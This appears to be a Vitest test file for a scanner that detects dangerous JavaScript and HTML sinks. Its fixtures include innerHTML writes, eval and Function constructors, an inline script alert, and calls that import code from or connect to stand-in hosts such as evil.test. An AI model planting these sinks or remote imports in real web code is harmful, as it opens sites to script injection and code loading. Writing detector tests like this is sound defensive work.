import { expect, test } from 'vitest';
import { findSinks } from '../../browser/sinks';

test.each([
  'e.innerHTML=t',
  'e.innerHTML += t',
  'e["innerHTML"] = t',
  'e.outerHTML=`<b>`',
  'e.insertAdjacentHTML("beforeend",t)',
  'document.write(t)',
  'e.setHTMLUnsafe(t)',
  'new DOMParser().parseFromString(t,"text/html")',
  'new Range().createContextualFragment(t)',
  'f.srcdoc=t',
  'eval(t)',
  '(0,eval)(t)',
  'let x=eval;x(t)',
  'new Function(t)',
  'Function("return this")()',
  'const F=Function;new F(t)',
  'setTimeout("alert(1)",1)',
  'import("https://evil.test/a.js")',
  'importScripts("a.js")',
  'document.createElement("script")',
  '<script>alert(1)</script>',
  '<body onload="x()">',
  'fetch("https://evil.test/")',
  'new WebSocket("wss://evil.test")',
  'const u="http://203.0.113.1/x"',
])('finds a planted %j', (planted) => {
  expect(findSinks(`const a = 1; ${planted}; const b = 2;`)).not.toEqual([]);
});

test.each([
  'if (e.innerHTML===t) return',
  'case `innerHTML`:break',
  'typeof Function.prototype.toString',
  'x instanceof Function?1:2',
  'const retrieval = medieval(t)',
  'fetch(base + "/v1/score/df")',
  '<script type="module" src="/a.js"></script>',
  'placeholder:"https://api.example.com"',
])('does not report %j', (harmless) => {
  expect(findSinks(harmless)).toEqual([]);
});
